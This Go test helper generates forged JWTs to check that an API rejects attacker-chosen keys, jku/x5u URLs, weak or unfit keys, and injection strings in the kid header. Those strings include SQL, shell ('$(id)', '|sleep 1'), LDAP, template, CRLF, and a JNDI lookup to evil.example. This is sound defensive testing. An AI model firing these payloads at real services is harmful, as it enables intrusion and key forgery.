package testutil

import (
	"bytes"
	"crypto/rand"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/json"
	"math/big"
	"slices"
	"strings"
	"time"
)

// keyAttacks let the token choose the key: RFC 7515 sections 4.1.2 to 4.1.8 and
// 10.4, RFC 8725 section 3.10; and use keys of the issuer that are not for this.
func keyAttacks(a *arena) {
	alg := a.key.alg
	stranger := a.strangers(alg)
	g := a.good().by(stranger, alg)
	jwk := json.RawMessage(a.stranger.system.jwk(a.stranger, stranger).mustEncode())
	const embedded = "The attacker's key in the token itself."
	a.token(refused, "key/jwk", embedded, g.head("jwk", jwk))
	a.token(refused, "key/jwk-without-kid", embedded, g.head("jwk", jwk).head("kid", nil))
	a.token(refused, "key/x5c", embedded, g.head("x5c", []string{a.certificate(stranger)}))
	a.token(refused, "key/x5c-without-kid", embedded, g.head("x5c", []string{a.certificate(stranger)}).head("kid", nil))

	good, bad := a.issuer.JWKSURL(), a.stranger.JWKSURL()
	for name, url := range sorted(map[string]string{
		"": bad, "-userinfo": strings.Replace(bad, "://", "://"+strings.TrimPrefix(a.issuer.URL(), "http://")+"@", 1),
		"-fragment": bad + "#" + good, "-query": bad + "?" + good, "-localhost": strings.Replace(bad, "127.0.0.1", "localhost", 1),
	}) {
		const remote = "The address of the attacker's key set in the token, for the API to fetch."
		a.token(refused, "key/jku"+name, remote, g.head("jku", url))
		a.token(refused, "key/x5u"+name, remote, g.head("x5u", url))
		a.token(refused, "key/kid-is-a-url"+name, remote, g.head("kid", url))
	}
	a.token(refused, "key/jku-without-kid", "The address of the attacker's key set in the token, for the API to fetch.", g.head("jku", bad).head("kid", nil))
	a.token(refused, "key/jku-file", "A file for a key set.", g.head("jku", "file:///etc/passwd"))
	a.token(refused, "key/without-kid", "No name of a key, and none of the issuer's.", g.head("kid", nil))

	for name, kid := range sorted(map[string]string{
		"traversal": "../../../../dev/null", "absolute-path": "/dev/null", "windows-path": `..\..\nul`, "SQL": "x' UNION SELECT 'AA'--", "SQL-or": "' OR '1'='1", "command": "|sleep 1", "substitution": "$(id)",
		"LDAP": "*)(uid=*", "template": "{{7*7}}", "JNDI": "${jndi:ldap://evil.example/x}", "newline": "x\r\nSet-Cookie: x=y", "NUL": a.key.id + "\x00", "long": strings.Repeat("k", 6000), "bidi": "\u202e" + a.key.id,
		"empty": "",
	}) {
		const injected = "A kid that means something to whatever looks it up, and a signature with an empty or foreign key."
		a.token(malformed, "key/kid-"+name, injected, g.head("kid", kid))
		if strings.HasSuffix(name, "path") || name == "traversal" || name == "SQL" || name == "empty" {
			a.token(malformed, "key/kid-"+name+"-HS256", injected, g.head("kid", kid).hmac(nil))
		}
	}
	for name, kid := range sorted(map[string]string{
		"null": "null", "number": "1", "true": "true", "array": "[" + string(quoted(a.key.id)) + "]", "object": "{}",
	}) {
		a.token(malformed, "key/kid-type-"+name, "A kid that is no string (RFC 7515 section 4.1.4), over a good signature.", a.good().head("kid", json.RawMessage(kid)))
	}

	const unfit = "A good signature by a published key that is not for this: "
	encryption, operations := a.extra["encryption"], a.extra["operations"]
	a.token(refused, "key/use-enc", unfit+"for encryption (RFC 7517 section 4.2).", a.goodBy(encryption, encryption.alg))
	a.token(refused, "key/key_ops-encrypt", unfit+"its key_ops lack verify (RFC 7517 section 4.3).", a.goodBy(operations, operations.alg))
	contradictory := a.extra["contradictory"]
	a.token(refused, "key/use-and-key_ops-disagree", unfit+"its use says so, its key_ops do not (RFC 7517 section 4.3).", a.goodBy(contradictory, contradictory.alg))
	for _, alg := range []string{"RS256", "RS384", "RS512", "PS256", "PS384", "PS512"} {
		if !slices.Contains(a.Algorithms, alg) {
			a.token(malformed, "key/without-alg-used-for-"+alg, "A good signature by an algorithm that the API does not accept, and a key that does not say what it is for (RFC 8725 section 3.1).", a.goodBy(a.extra["unbound"], alg))
		}
	}
	if a.anyOf("RS256") != nil {
		a.token(refused, "key/RSA-1024-bits", unfit+"too short (RFC 7518 section 3.3).", a.goodBy(a.extra["weak"], "RS256"))
		a.token(refused, "key/alg-PS512-used-for-RS256", unfit+"for another algorithm (RFC 7517 section 4.4).", a.goodBy(a.extra["bound"], "RS256"))
	}
	a.token(malformed, "key/symmetric", unfit+"symmetric, so that whoever reads the key set can sign.", a.goodBy(a.extra["symmetric"], "HS256"))
	unpublished := a.extra["unpublished"]
	a.token(refused, "key/unpublished", "A key of the issuer that it does not publish.", a.goodBy(unpublished, unpublished.alg))
}

// certificate returns a self-signed certificate of k, as x5c has it.
func (a *arena) certificate(k *signingKey) string {
	template := &x509.Certificate{
		SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "stranger"},
		NotBefore: a.issuer.Now().Add(-time.Hour), NotAfter: a.issuer.Now().Add(time.Hour),
	}
	der, err := x509.CreateCertificate(rand.Reader, template, template, k.public(), k.private)
	if err != nil {
		panic("testutil: " + err.Error())
	}
	return base64.StdEncoding.EncodeToString(der)
}

// keySetCases are about an issuer whose key set holds keys that make no sense.
// They do not make the others worthless.
func keySetCases(a *arena) {
	const keys = `{"keys":[` +
		`{"kty":"future","kid":"future","use":"sig","alg":"XX999","x":"AA"},` +
		`{"kty":"EC","crv":"secp256k1","kid":"curve","use":"sig","x":"AA","y":"AA"},` +
		`{"kty":"EC","crv":"P-256","kid":"off-curve","use":"sig","alg":"ES256","x":"AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA","y":"AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"},` +
		`{"kty":"RSA","kid":"half","use":"sig","alg":"RS256","n":"AQAB"},`
	odd := a.apart(func(i *Issuer) {
		i.SetJWKS(bytes.Replace(i.JWKS(), []byte(`{"keys":[`), []byte(keys), 1))
	})
	odd.token(served, "keyset/odd-keys-beside-a-good-one", "A good token of an issuer that also publishes keys of unknown types and curves, half a key, and a point that is not on its curve (RFC 7517 section 5).", odd.good())
	for _, kid := range []string{"future", "curve", "off-curve", "half"} {
		odd.token(malformed, "keyset/"+kid+"-named", "A token that names one of the keys that make no sense.", odd.good().head("kid", kid))
	}
	a.take(odd)
}
